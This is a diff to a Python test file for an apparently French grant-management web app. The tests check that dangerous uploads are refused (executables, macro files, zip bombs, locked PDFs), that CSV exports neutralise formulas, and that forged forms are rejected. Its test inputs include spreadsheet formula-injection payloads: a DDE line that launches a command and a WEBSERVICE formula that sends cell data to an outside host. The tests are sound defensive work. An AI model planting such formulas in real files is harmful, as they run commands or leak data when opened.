@@ -7,19 +7,20 @@ from collections.abc import Callable, Iterator
 from typing import Any
 from uuid import UUID
 
+import pikepdf
 import pytest
 from flask.testing import FlaskClient
-from sqlalchemy import Connection, select
+from sqlalchemy import select
 from werkzeug.test import TestResponse
 
 from fundapp.audit.models import Staged
 from fundapp.donors.models import FunderFile
 from fundapp.donors.permissions import EDIT, SEE
+from fundapp.donors.rules.files import REFUSALS
 from fundapp.vault.cleaning.errors import SENTENCES
 from fundapp.vault.files import FileStore
-from fundapp.vault.installation import files_of
 from tests.donors.pages import hidden
-from tests.donors.papers import PLAIN, Desk, Keep, keeper
+from tests.donors.papers import PLAIN, Desk, Keep
 from tests.fixtures.application import VISITOR, Look
 from tests.imports.test_sending import Unread
 from tests.vault.cleaning.good_documents import docx, pdf, zipped
@@ -30,21 +31,6 @@ pytestmark = pytest.mark.usefixtures("visitor")
 
 Add = Callable[..., UUID]
 CANARY = b"Kanarienvogel-4711"
-
-
-@pytest.fixture
-def desk(client: FlaskClient, add: Add) -> Desk:
-    return Desk(client, add(name="Fonds"))
-
-
-@pytest.fixture
-def keep(rolled_back: Connection) -> Keep:
-    return keeper(rolled_back)
-
-
-@pytest.fixture
-def store(client: FlaskClient) -> FileStore:
-    return files_of(client.application.extensions["fundapp.settings"])
 
 
 @pytest.fixture
@@ -97,6 +83,13 @@ def test_a_name_as_no_browser_writes_it_does_no_harm(desk: Desk, look: Look, par
         assert "\n" not in got.headers["Content-Disposition"]
 
 
+def _locked() -> bytes:
+    out, made = io.BytesIO(), pikepdf.new()
+    made.add_blank_page()
+    made.save(out, encryption=pikepdf.Encryption(owner="x", user="y"))
+    return out.getvalue()
+
+
 BOOK = "xl/worksheets/sheet1.xml"
 REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "programme": ("appel.pdf", lambda: b"MZ" + bytes(300), "est un programme"),
@@ -110,7 +103,7 @@ REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "macros d’Excel": ("a.xlsx", lambda: xlsx({"xl/vbaProject.bin": b"x"}), "contient des macros"),
     "macros de LibreOffice": ("a.odt", lambda: odt({"Basic/x.xml": b"x"}), "contient des macros"),
     "vieux Excel": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "ancien ou verrouillé"),
-    "PDF verrouillé": ("a.pdf", lambda: _locked(), "mot de passe"),
+    "PDF verrouillé": ("a.pdf", _locked, "mot de passe"),
     "PDF coupé": ("a.pdf", lambda: pdf()[:2000], "abîmé"),
     "bombe": ("a.xlsx", lambda: with_parts(xlsx(), {BOOK: bytes(60_000_000)}), "bien plus volumineux"),
     "bombe de Word": (
@@ -118,21 +111,12 @@ REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
         lambda: with_parts(docx(), {"word/document.xml": bytes(60_000_000)}),
         "bien plus volumineux",
     ),
-    "image nommée PDF": ("convention.pdf", lambda: jpeg(), "image JPEG"),
+    "image nommée PDF": ("convention.pdf", jpeg, "image JPEG"),
     "PDF nommé programme": ("convention.exe", lambda: pdf(1), "Renommez-le"),
     "cellules qui appellent": ("budget.csv", lambda: b"Poste;=cmd|'/c calc'!A1\n", "appelle des programmes"),
     "cellules qui envoient": ("budget.csv", lambda: b'a\n"=WEBSERVICE(""http://x/""&A1)"\n', "appelle des programmes"),
     "voix": ("note.mp3", lambda: b"\xff\xfb\x90\x00" + bytes(4000), "n’est pas accepté"),
 }
-
-
-def _locked() -> bytes:
-    import pikepdf
-
-    out, made = io.BytesIO(), pikepdf.new()
-    made.add_blank_page()
-    made.save(out, encryption=pikepdf.Encryption(owner="x", user="y"))
-    return out.getvalue()
 
 
 @pytest.mark.usefixtures("unkept")
@@ -149,8 +133,6 @@ def test_what_is_dangerous_or_is_not_what_it_says_is_refused_in_words(desk: Desk
 
 
 def test_every_reason_to_refuse_has_a_sentence_of_its_own_page() -> None:
-    from fundapp.donors.rules.files import REFUSALS
-
     assert set(REFUSALS) == set(SENTENCES)
     said = " ".join(str(each) for each in REFUSALS.values())
     assert "20 MB" not in said
@@ -200,8 +182,8 @@ def test_a_form_that_somebody_else_made_writes_nothing(desk: Desk, look: Look) -
     assert look(select(FunderFile)) == []
 
 
-def test_a_paper_is_not_removed_by_a_forged_form(desk: Desk, keep: Keep, look: Look) -> None:
-    paper = keep(desk.funder_id)
+def test_a_paper_is_not_removed_by_a_forged_form(desk: Desk, keep_paper: Keep, look: Look) -> None:
+    paper = keep_paper(desk.funder_id)
     assert desk.client.post(f"/funders/files/{paper}/remove", data={"csrf_token": "forged"}).status_code == 400
     assert look(select(FunderFile.id)) == [paper]
 
@@ -232,8 +214,8 @@ def test_whoever_may_only_look_fetches_and_whoever_may_not_finds_nothing(
     assert len(fetched) == (1 if sees else 0)
 
 
-def test_formulas_in_names_and_notes_are_not_run_by_a_spreadsheet(desk: Desk, keep: Keep) -> None:
-    keep(desk.funder_id, "=cmd|'x'!A1.pdf", note="@SUM(A1)")
+def test_formulas_in_names_and_notes_are_not_run_by_a_spreadsheet(desk: Desk, keep_paper: Keep) -> None:
+    keep_paper(desk.funder_id, "=cmd|'x'!A1.pdf", note="@SUM(A1)")
     data = desk.client.get("/funders/files/export.csv", buffered=True).data.decode("utf-8-sig")
     (_head, row) = csv.reader(io.StringIO(data), delimiter=";")
     assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
